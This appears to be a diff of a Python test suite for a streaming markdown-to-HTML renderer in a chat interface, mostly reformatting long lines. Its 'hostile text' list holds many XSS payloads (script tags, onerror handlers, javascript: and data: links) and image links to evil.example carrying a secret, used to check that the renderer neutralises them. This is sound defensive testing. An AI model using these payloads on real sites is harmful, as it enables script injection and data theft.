@@ -47,7 +47,9 @@ def tree(html):
 def add(root, text):
     "What the browser does with `append` (the same rule stands in static/pianola.js)"
     n = root
-    while (kids := [k for k in n.kids if isinstance(k, Node)]) and (re.fullmatch('p|h[1-6]|ul|ol|li|blockquote|figure|pre', kids[-1].tag) or (n.tag, kids[-1].tag) == ('pre', 'code')): n = kids[-1]
+    while (kids := [k for k in n.kids if isinstance(k, Node)]) and (re.fullmatch('p|h[1-6]|ul|ol|li|blockquote|figure|pre', kids[-1].tag)
+            or (n.tag, kids[-1].tag) == ('pre', 'code')):
+        n = kids[-1]
     n.put(text)
 
 class Page:
@@ -74,13 +76,25 @@ class Page:
 
 # however it came
 
-corpus = ['', '\n', ' ', '# a\nb\n\nc', 'a\n===\nb\n---\nc', '#hashtag\n# heading #\n## x ##', '- a\n- b\n\n  c\n- d\ne\nf', '1. a\n2. b\n   - c\n\n     d\n3) e', '- a\n+ b\n* c\n-\n\n-x', '* * *\n***\n**b** c\n**Bold** start',
-    '> a\nb\n\n> c\n> - d\ne', '```\na\n```\nb', '```py\nx = 1\n\n\n``\n```` \nafter', '~~~~ md\n```\n~~~\n~~~~\nx', '``` a`b\nc', '```js\nopen {', '   ```\n    x\n ```\ny', '- ```py\n  x\n\ny', '- a\n  ```\n  b\n  ```\n  c and more\n\nd', '- # a\n  text and more', '- > a\n\n- b\n  > c\n\n  d e',
-    'a|b\n-|-\n1|2\nx\n\ny', 'foo\na|b\n-|-\n1|2', 'a|b\n-|-x\ny', '| a | b |\n|:-|-:|\n| `|` | **c** |\n', '    code\n\n    more\n\nx', 'a  \nb\\\nc\n\n\td', '*a **b* c**', '**a\nb**\n\n_c_d_ __e__ ~~f~~', '`a` ``b` `` `c',
-    '[a](http://b.c "t") [d](e) [f] (g) ![h](http://i.j/k.png) [![l](http://m.n/o)](http://p.q)', 'see http://a.b/c_d_e, or https://x.y/(z). http://', '<http://a.b> <c@d.ee> <script>alert(1)</script> <!-- x', '&amp; &lt;b&gt; &#x202e; &copy; &nope; &',
-    '\\*a\\* \\`b\\` \\', 'a\r\nb\r\rc\r', 'a\0b\x1b[31mc', 'שלום **עולם** \u202eabc\u202c \u200bd', '你好**世界**。好', '{"action": "tasks.create", "args": {"name": "x"}}\n\ndone', '```json\n[{"action": "a.b"}, {"action": "c.d"}]\n```\nx',
-    '{\n  "action": "a.b",\n  "args": {}\n}', '[{"a": 1}]', '> ' * 30 + 'deep\n\nout', '- ' * 30 + 'deep', ''.join('  ' * i + '- a\n' for i in range(14)) + '\nout', '[x]: http://a.b\n\n[x] [y][x]', '- [x] a\n- [ ] b\n- [x]\n- [y] c', 'a\u00a0\n\u00a0b\u2003 \n', '\ud800 a', 'e *f*\u2028 (g', '# b # 1', '# |y\n-|-\nz', '```a|b\n-|-\nx', '* [x] 1. ', '{"action": "a.b"}\xa0a', 
-    'a\n\n\n\n\nb', '1986. A great year\n1. x', 'Text\n- a\n- b\nText', '+ a\n\n\n+ b', '***a** b*', 'Hello *wor', 'x\n\n---\n\ny\n', '\ta\n\tb\nc', '\n\n  lead', '***', '* a\n *b*', '-\n  a', '- a\n -b\n  - c\n   - d\n    - e', '>\n> a\n>\n\n>b', 'www.a.bc a@b.cc a.py']
+corpus = ['', '\n', ' ', '# a\nb\n\nc', 'a\n===\nb\n---\nc', '#hashtag\n# heading #\n## x ##', '- a\n- b\n\n  c\n- d\ne\nf',
+          '1. a\n2. b\n   - c\n\n     d\n3) e', '- a\n+ b\n* c\n-\n\n-x', '* * *\n***\n**b** c\n**Bold** start',
+    '> a\nb\n\n> c\n> - d\ne', '```\na\n```\nb', '```py\nx = 1\n\n\n``\n```` \nafter', '~~~~ md\n```\n~~~\n~~~~\nx', '``` a`b\nc',
+    '```js\nopen {', '   ```\n    x\n ```\ny', '- ```py\n  x\n\ny', '- a\n  ```\n  b\n  ```\n  c and more\n\nd', '- # a\n  text and more',
+    '- > a\n\n- b\n  > c\n\n  d e',
+    'a|b\n-|-\n1|2\nx\n\ny', 'foo\na|b\n-|-\n1|2', 'a|b\n-|-x\ny', '| a | b |\n|:-|-:|\n| `|` | **c** |\n', '    code\n\n    more\n\nx',
+    'a  \nb\\\nc\n\n\td', '*a **b* c**', '**a\nb**\n\n_c_d_ __e__ ~~f~~', '`a` ``b` `` `c',
+    '[a](http://b.c "t") [d](e) [f] (g) ![h](http://i.j/k.png) [![l](http://m.n/o)](http://p.q)',
+    'see http://a.b/c_d_e, or https://x.y/(z). http://', '<http://a.b> <c@d.ee> <script>alert(1)</script> <!-- x',
+    '&amp; &lt;b&gt; &#x202e; &copy; &nope; &',
+    '\\*a\\* \\`b\\` \\', 'a\r\nb\r\rc\r', 'a\0b\x1b[31mc', 'שלום **עולם** \u202eabc\u202c \u200bd', '你好**世界**。好',
+    '{"action": "tasks.create", "args": {"name": "x"}}\n\ndone', '```json\n[{"action": "a.b"}, {"action": "c.d"}]\n```\nx',
+    '{\n  "action": "a.b",\n  "args": {}\n}', '[{"a": 1}]', '> ' * 30 + 'deep\n\nout', '- ' * 30 + 'deep',
+    ''.join('  ' * i + '- a\n' for i in range(14)) + '\nout', '[x]: http://a.b\n\n[x] [y][x]',
+    '- [x] a\n- [ ] b\n- [x]\n- [y] c', 'a\u00a0\n\u00a0b\u2003 \n', '\ud800 a', 'e *f*\u2028 (g', '# b # 1', '# |y\n-|-\nz',
+    '```a|b\n-|-\nx', '* [x] 1. ', '{"action": "a.b"}\xa0a', 
+    'a\n\n\n\n\nb', '1986. A great year\n1. x', 'Text\n- a\n- b\nText', '+ a\n\n\n+ b', '***a** b*', 'Hello *wor',
+    'x\n\n---\n\ny\n', '\ta\n\tb\nc', '\n\n  lead', '***', '* a\n *b*', '-\n  a', '- a\n -b\n  - c\n   - d\n    - e', '>\n> a\n>\n\n>b',
+    'www.a.bc a@b.cc a.py']
 
 def streamed(text, cuts, dear=None):
     page, last = Page(dear), 0
@@ -103,13 +117,17 @@ def test_two_replies_of_the_corpus_after_one_another_in_random_pieces(n):
         text = '\n'.join(r.sample(corpus, 3))
         assert streamed(text, [r.randrange(len(text)+1) for _ in range(r.randrange(30))]) == render.blocks(text)
 
-bits = st.sampled_from(['a', 'word ', 'B', ' ', '  ', '\n', '\n', '\n\n', '- ', '* ', '+ ', '1. ', '2) ', '> ', '#', '# ', '```', '```py\n', '```\n', '~~~', '``', '`', '|', ' | ', '-|-\n', '---', '===', '**', '*', '_', '__', '~~', '[', '](', '](http://a.b', ')',
-    '![', 'http://c.d/', ':', '    ', '\t', '<', '>', '<b>', '&', '&amp;', ';', '\\', '\r', '\r\n', '\0', '\u202e', '\u00a0', '\u2028', '{"action": "a.b"}', '{', '}', '"', '[x] ', 'é', '好', '🎹', 'שלום', '.', '!', '(', '1'])
+bits = st.sampled_from(['a', 'word ', 'B', ' ', '  ', '\n', '\n', '\n\n', '- ', '* ', '+ ', '1. ', '2) ', '> ', '#', '# ', '```',
+                        '```py\n', '```\n', '~~~', '``', '`', '|', ' | ', '-|-\n', '---', '===', '**', '*', '_', '__', '~~', '[', '](',
+                        '](http://a.b', ')',
+    '![', 'http://c.d/', ':', '    ', '\t', '<', '>', '<b>', '&', '&amp;', ';', '\\', '\r', '\r\n', '\0', '\u202e', '\u00a0', '\u2028',
+    '{"action": "a.b"}', '{', '}', '"', '[x] ', 'é', '好', '🎹', 'שלום', '.', '!', '(', '1'])
 soup = st.lists(bits, max_size=40).map(''.join)
 
 @quick
 @given(soup, st.lists(st.integers(0, 120), max_size=40), st.sampled_from([None, None, 0, 30]))
-def test_however_a_reply_is_cut_its_blocks_only_grow_and_end_as_in_history(text, cuts, dear): assert streamed(text, [c for c in cuts if c < len(text)], dear) == render.blocks(text)
+def test_however_a_reply_is_cut_its_blocks_only_grow_and_end_as_in_history(text, cuts, dear):
+    assert streamed(text, [c for c in cuts if c < len(text)], dear) == render.blocks(text)
 
 @quick
 @given(soup)
@@ -160,8 +178,12 @@ def test_code_is_plain_while_it_grows_and_coloured_when_it_closes():
     assert 'class="hl"' not in page.b.tail()
     assert 'class="hl"' in page.take('```\n').finished[0]
 
-@pytest.mark.parametrize('name, text, step', [('one fence', '```py\n' + 'x = [1, 2, "three"]\n' * 3_000, 40), ('one paragraph', 'a *b* `c` word, and **more** of it. ' * 1_000, 40), ('one list', '- **item**: `code` and words\n' * 800, 40),
-    ('one table', '| a | b |\n|---|---|\n' + '| **cell** | `code` |\n' * 800, 40), ('lines', 'a *b*\n' * 3_000, 40), ('blank lines in an indented fence', ' ```\n' + 'a\n\n' * 5_000, 40)])
+@pytest.mark.parametrize('name, text, step',
+                         [('one fence', '```py\n' + 'x = [1, 2, "three"]\n' * 3_000, 40),
+                          ('one paragraph', 'a *b* `c` word, and **more** of it. ' * 1_000, 40),
+                          ('one list', '- **item**: `code` and words\n' * 800, 40),
+    ('one table', '| a | b |\n|---|---|\n' + '| **cell** | `code` |\n' * 800, 40), ('lines', 'a *b*\n' * 3_000, 40),
+    ('blank lines in an indented fence', ' ```\n' + 'a\n\n' * 5_000, 40)])
 def test_a_very_long_block_stays_cheap(name, text, step):
     "A second as many characters must cost about twice as much, not four times"
     def cost(text):
@@ -188,10 +210,14 @@ def test_after_a_very_long_block_the_next_one_is_drawn_as_it_comes():
 
 # hostile text
 
-allowed = {'p': (), 'br': (), 'hr': (), 'em': (), 'strong': (), 's': (), 'code': ('class',), 'pre': ('tabindex',), 'a': ('class', 'href', 'title', 'target', 'rel'), 'ul': (), 'ol': ('start',), 'li': ('class',), 'blockquote': (),
-           'table': (), 'thead': (), 'tbody': (), 'tr': (), 'th': ('class',), 'td': ('class',), 'h1': (), 'h2': (), 'h3': (), 'h4': (), 'h5': (), 'h6': (), 'figure': ('class',), 'figcaption': (), 'span': ('class',),
+allowed = {'p': (), 'br': (), 'hr': (), 'em': (), 'strong': (), 's': (), 'code': ('class',), 'pre': ('tabindex',),
+           'a': ('class', 'href', 'title', 'target', 'rel'), 'ul': (), 'ol': ('start',), 'li': ('class',), 'blockquote': (),
+           'table': (), 'thead': (), 'tbody': (), 'tr': (), 'th': ('class',), 'td': ('class',), 'h1': (), 'h2': (), 'h3': (), 'h4': (),
+           'h5': (), 'h6': (), 'figure': ('class',), 'figcaption': (), 'span': ('class',),
            'button': ('type', 'class', 'aria-label'), 'div': ('class', 'tabindex', 'role', 'aria-label'), 'details': ('class',), 'summary': ()}
-values = {'class': {'out', 'out img-link', 'task', 'left', 'center', 'right', 'code', 'hl', 'lang', 'copy', 'table', 'key', *'cktfdbavnseixh'}, 'target': {'_blank'}, 'rel': {'noopener noreferrer nofollow'}, 'type': {'button'}, 'tabindex': {'0'}, 'role': {'region'},
+values = {'class': {'out', 'out img-link', 'task', 'left', 'center', 'right', 'code', 'hl', 'lang', 'copy', 'table', 'key',
+                    *'cktfdbavnseixh'}, 'target': {'_blank'}, 'rel': {'noopener noreferrer nofollow'}, 'type': {'button'},
+                    'tabindex': {'0'}, 'role': {'region'},
           'aria-label': {'Copy code', 'Table'}}
 
 def harmless(html):
@@ -202,29 +228,55 @@ def harmless(html):
         for k, v in n.attrs.items():
             assert k in allowed[n.tag], (n.tag, k)
             assert k not in values or v in values[k], (k, v)
-            if k == 'href': assert re.match(r'https?://[^/]|mailto:.', v) and v == n.attrs['title'] and n.attrs['rel'] and n.attrs['target'] == '_blank' and n.text()
+            if k == 'href':
+                assert (re.match(r'https?://[^/]|mailto:.', v) and v == n.attrs['title'] and n.attrs['rel']
+                        and n.attrs['target'] == '_blank' and n.text())
             if k == 'start': assert v.isdigit()
         if n.tag == 'a': assert not any(m.tag == 'a' for m in n.all())
-        if n.tag == 'figure': assert [k.tag for k in n.kids] == ['figcaption', 'pre'] and [k.tag for k in n.kids[0].kids] == ['span', 'button'] and n.kids[0].kids[1].text() == 'Copy'
+        if n.tag == 'figure':
+            assert ([k.tag for k in n.kids] == ['figcaption', 'pre'] and [k.tag for k in n.kids[0].kids] == ['span', 'button']
+                    and n.kids[0].kids[1].text() == 'Copy')
     assert sum(n.tag == 'button' for n in root.all()) == sum(n.tag == 'figure' for n in root.all())
     assert not re.search('[\x01-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]', html)
     return root
 
-xss = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>', '<form action=/api/roll/1/undo method=post><button>Approve</button></form>', '<style>*{display:none}</style>', '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example>',
-    '<div id="app" hx-swap-oob="true">owned</div>', '<div hx-get="/x" hx-trigger="load" hx-on:click="alert(1)" data-hx-post="/y" hx-vals="js:alert(1)" ws-send x-data="{}" _="on load alert(1)">x</div>',
-    '<button class="approve" data-approval="1">Approve</button>', '<details class="key"><summary>tasks.create</summary></details>', '<figure class="code"><button class="copy">Copy</button></figure>', '<pre></pre>', '<table>', '</div></div></main>', '<!--', ']]>', '<p style="position:fixed">',
-    '![" onerror="alert(1)](http://x/"onerror="alert(1))', '![x](http://x/y.png "\\" onerror=\\"alert(1)")', '[x](http://a.b "\\" onclick=\\"alert(1)")', '[x](<http://a.b/"onmouseover="alert(1)>)', '![pixel](https://evil.example/?q=secret)', '[![pixel](https://evil.example/a.png)](https://evil.example/b)',
-    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](java&#x0A;script:alert(1))', '[x](&#106;avascript:alert(1))', '[x](\x01javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:msgbox)', '[x](file:///etc/passwd)', '<javascript:alert(1)>',
-    '<data:text/html;base64,PHN2Zz4=>', '[x](//evil.example)', '[x](/api/roll/1/undo)', '[x](#app)', '[x](http:/a)', '[x](http:///a)', '[x](https://)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x](/static/a.png)', '[](http://evil.example)', '[\u200b](http://evil.example)', '[ ](http://evil.example)',
-    '[a <http://b.c> d](http://e.f)', '[http://bank.example](http://evil.example)', 'http://a.b/"><img src=x>', 'http://a.b/\'onclick=\'alert(1)', '<http://a.b/"><script>>', '``` "><script>alert(1)</script>\nx\n```', '```python onclick=alert(1)\nx = "</code></pre><script>alert(1)</script>"\n```', '```html\n<script>alert(1)</script>\n```',
-    '~~~ <b>\n</figure><button>\n~~~', '```"\n', '| <b> | [x](javascript:1) |\n|-|-|\n| <img src=x onerror=1> | `<i>` |', '{"action": "<img src=x onerror=alert(1)>.x"}', '{"action": "tasks.create", "args": {"name": "</code></pre><script>alert(1)</script>"}}', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;',
-    '\u202etxt.exe\u202c', 'a\u2066b\u2069 \u200bz\u2060\ufeff', '`\u202e`', '\x1b[2J\x1b]0;owned\x07', '[x](http://a.b/\u202egpj.exe)', '# <h1 id=nav>', '- <li onclick=1>', '> <blockquote hx-get=/>', '1. [x] <input>', '- [x] <input type=checkbox>', '$$\\href{javascript:alert(1)}{x}$$', '```mermaid\ngraph TD;click A javascript:alert(1)\n```',
-    '<x' + ' a' * 500, '<' * 500, '[' * 500 + '](x)', '![' * 300, '*' * 999, '`' * 999 + 'a', '&' * 500, '\\' * 501, '|' * 300, '> ' * 300 + 'x', '- ' * 300 + 'x']
+xss = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
+       '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>',
+    '<form action=/api/roll/1/undo method=post><button>Approve</button></form>', '<style>*{display:none}</style>',
+    '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example>',
+    '<div id="app" hx-swap-oob="true">owned</div>',
+    '<div hx-get="/x" hx-trigger="load" hx-on:click="alert(1)" data-hx-post="/y" hx-vals="js:alert(1)" ws-send x-data="{}" _="on load '
+    'alert(1)">x</div>',
+    '<button class="approve" data-approval="1">Approve</button>', '<details class="key"><summary>tasks.create</summary></details>',
+    '<figure class="code"><button class="copy">Copy</button></figure>', '<pre></pre>', '<table>', '</div></div></main>', '<!--', ']]>',
+    '<p style="position:fixed">',
+    '![" onerror="alert(1)](http://x/"onerror="alert(1))', '![x](http://x/y.png "\\" onerror=\\"alert(1)")',
+    '[x](http://a.b "\\" onclick=\\"alert(1)")', '[x](<http://a.b/"onmouseover="alert(1)>)', '![pixel](https://evil.example/?q=secret)',
+    '[![pixel](https://evil.example/a.png)](https://evil.example/b)',
+    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](java&#x0A;script:alert(1))',
+    '[x](&#106;avascript:alert(1))', '[x](\x01javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](vbscript:msgbox)', '[x](file:///etc/passwd)', '<javascript:alert(1)>',
+    '<data:text/html;base64,PHN2Zz4=>', '[x](//evil.example)', '[x](/api/roll/1/undo)', '[x](#app)', '[x](http:/a)', '[x](http:///a)',
+    '[x](https://)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x](/static/a.png)', '[](http://evil.example)',
+    '[\u200b](http://evil.example)', '[ ](http://evil.example)',
+    '[a <http://b.c> d](http://e.f)', '[http://bank.example](http://evil.example)', 'http://a.b/"><img src=x>',
+    'http://a.b/\'onclick=\'alert(1)', '<http://a.b/"><script>>', '``` "><script>alert(1)</script>\nx\n```',
+    '```python onclick=alert(1)\nx = "</code></pre><script>alert(1)</script>"\n```', '```html\n<script>alert(1)</script>\n```',
+    '~~~ <b>\n</figure><button>\n~~~', '```"\n', '| <b> | [x](javascript:1) |\n|-|-|\n| <img src=x onerror=1> | `<i>` |',
+    '{"action": "<img src=x onerror=alert(1)>.x"}',
+    '{"action": "tasks.create", "args": {"name": "</code></pre><script>alert(1)</script>"}}', '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '&#60;script&#62;',
+    '\u202etxt.exe\u202c', 'a\u2066b\u2069 \u200bz\u2060\ufeff', '`\u202e`', '\x1b[2J\x1b]0;owned\x07', '[x](http://a.b/\u202egpj.exe)',
+    '# <h1 id=nav>', '- <li onclick=1>', '> <blockquote hx-get=/>', '1. [x] <input>', '- [x] <input type=checkbox>',
+    '$$\\href{javascript:alert(1)}{x}$$', '```mermaid\ngraph TD;click A javascript:alert(1)\n```',
+    '<x' + ' a' * 500, '<' * 500, '[' * 500 + '](x)', '![' * 300, '*' * 999, '`' * 999 + 'a', '&' * 500, '\\' * 501, '|' * 300,
+    '> ' * 300 + 'x', '- ' * 300 + 'x']
 
 @pytest.mark.parametrize('text', xss)
 def test_hostile_text_is_shown_and_does_nothing(text):
-    for t in (text, f'a {text} b', f'- {text}', f'> {text}', f'**{text}**', f'[{text}](http://a.b)', f'![{text}](http://a.b)', f'| {text} |\n|-|\n| {text} |', f'```\n{text}\n```', f'``` {text}\n'):
+    for t in (text, f'a {text} b', f'- {text}', f'> {text}', f'**{text}**', f'[{text}](http://a.b)', f'![{text}](http://a.b)',
+              f'| {text} |\n|-|\n| {text} |', f'```\n{text}\n```', f'``` {text}\n'):
         for b in render.blocks(t): harmless(b)
         page = Page()
         step = 1 if len(t) < 120 else 29
@@ -236,11 +288,13 @@ def test_hostile_text_is_shown_and_does_nothing(text):
 def test_an_image_is_a_link_and_nothing_loads_by_itself():
     (b,) = render.blocks('![A cat](https://evil.example/cat.png?q=secret)')
     (a,) = [n for n in harmless(b).all() if n.tag == 'a']
-    assert a.attrs['class'] == 'out img-link' and a.text() == 'A cat' and a.attrs['title'] == a.attrs['href'] == 'https://evil.example/cat.png?q=secret'
+    assert (a.attrs['class'] == 'out img-link' and a.text() == 'A cat'
+            and a.attrs['title'] == a.attrs['href'] == 'https://evil.example/cat.png?q=secret')
     assert 'src' not in b
 
 def test_an_address_that_leads_elsewhere_than_the_web_stays_text():
-    for u in ('javascript:alert(1)', '/api/roll/1/undo', '//evil.example', 'data:text/html,x'): assert render.blocks(f'[x]({u})') == [f'<p>[x]({u})</p>']
+    for u in ('javascript:alert(1)', '/api/roll/1/undo', '//evil.example', 'data:text/html,x'):
+        assert render.blocks(f'[x]({u})') == [f'<p>[x]({u})</p>']
 
 def test_the_models_copy_button_is_text():
     (b,) = render.blocks('<button type="button" class="copy" aria-label="Copy code">Copy</button>')
@@ -256,7 +310,8 @@ def test_words_that_turn_the_line_around_or_hide_in_it_are_left_out():
 def test_blocks_of_every_kind():
     got = render.blocks('# T\n\na\nb ~~c~~\n\n1. x\n\n3. y\n\n---\n\n|a|b|\n|:-:|-|\n|1|2|\n\n7. z\n\n- [x] done\n- [ ] open')
     assert got == ['<h1>T</h1>', '<p>a<br>b <s>c</s></p>', '<ol><li><p>x</p></li><li><p>y</p></li></ol>', '<hr>',
-        '<div class="table" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th class="center">a</th><th>b</th></tr></thead><tbody><tr><td class="center">1</td><td>2</td></tr></tbody></table></div>',
+        '<div class="table" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th '
+        'class="center">a</th><th>b</th></tr></thead><tbody><tr><td class="center">1</td><td>2</td></tr></tbody></table></div>',
         '<ol start="7"><li>z</li></ol>', '<ul><li class="task">☑ done</li><li class="task">☐ open</li></ul>']
 
 def test_a_block_of_actions_is_folded_and_prose_with_one_is_not():
@@ -264,7 +319,8 @@ def test_a_block_of_actions_is_folded_and_prose_with_one_is_not():
     for text in (a, f'```json\n{a}\n```', f'```\n{a}\n```', f'[{a}, {a}]', "{'action': 'tasks.create', 'name': 'x',}"):
         (b,) = render.blocks(text)
         assert b.startswith('<details class="key"><summary>tasks.create') and '<figure class="code">' in b
-    for text in (f'Sure: {a}', f'```python\n{a}\n```', f'> {a}', '{"a": 1}', a[:-1], '{"action": "jump"}'): assert not any('<details' in b for b in render.blocks(text))
+    for text in (f'Sure: {a}', f'```python\n{a}\n```', f'> {a}', '{"a": 1}', a[:-1], '{"action": "jump"}'):
+        assert not any('<details' in b for b in render.blocks(text))
 
 def test_what_is_folded_is_what_is_pressed():
     for text in corpus + xss:
@@ -284,7 +340,8 @@ def test_colour_gives_up_on_code_that_would_take_too_long():
 def test_plain_words_of_a_reply_in_one_line():
     assert render.plain('# Plan\n\n- **Buy** `milk` [here](http://a.b)\n\n```py\nx\n```\n') == 'Plan Buy milk here code block'
     assert render.plain('{"action": "tasks.create", "args": {}}') == 'tasks.create'
-    assert render.plain('One two three four', 12) == 'One two…' and render.plain('x' * 50, 10) == 'x' * 9 + '…' and render.plain('short', 10) == 'short'
+    assert (render.plain('One two three four', 12) == 'One two…' and render.plain('x' * 50, 10) == 'x' * 9 + '…'
+            and render.plain('short', 10) == 'short')
 
 @quick
 @given(soup, st.integers(1, 60))
@@ -301,7 +358,8 @@ def heard(text, cuts):
 
 def test_a_screen_reader_hears_sentences():
     text = 'Sure! Here is **the plan**, e.g. for Dr. Smith. It costs 3.50 today.\n\n1. Buy milk\n2. Call\n\n```python\nx. y! z?\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n{"action": "tasks.create",\n "args": {"name": "x. y"}}\nDone'
-    want = ['Sure!', 'Here is the plan, e.g. for Dr. Smith.', 'It costs 3.50 today.', '1. Buy milk', '2. Call', 'Code block.', 'a, b', '1, 2', 'tasks.create', 'Done']
+    want = ['Sure!', 'Here is the plan, e.g. for Dr. Smith.', 'It costs 3.50 today.', '1. Buy milk', '2. Call', 'Code block.', 'a, b',
+            '1, 2', 'tasks.create', 'Done']
     assert heard(text, []) == want
     for cut in range(len(text)): assert heard(text, [cut]) == want
     assert heard(text, range(len(text))) == want
@@ -310,7 +368,8 @@ def test_nothing_is_heard_before_it_is_finished():
     assert render.sentences('Hello wor', 0) == ([], 0)
     assert render.sentences('Hello. Wor', 0) == (['Hello.'], 7)
     assert render.sentences('```py\nx = 1.\n', 0) == ([], 0)
-    assert render.sentences('It was built in 1999. Then', 0) == (['It was built in 1999.'], 22)      # a year ends a sentence, a day or a place in a list does not
+    # a year ends a sentence, a day or a place in a list does not
+    assert render.sentences('It was built in 1999. Then', 0) == (['It was built in 1999.'], 22)
     assert render.sentences('12. Mai, also spring', 0) == render.sentences('On the 12. Mai, also spring', 0) == ([], 0)
 
 @quick
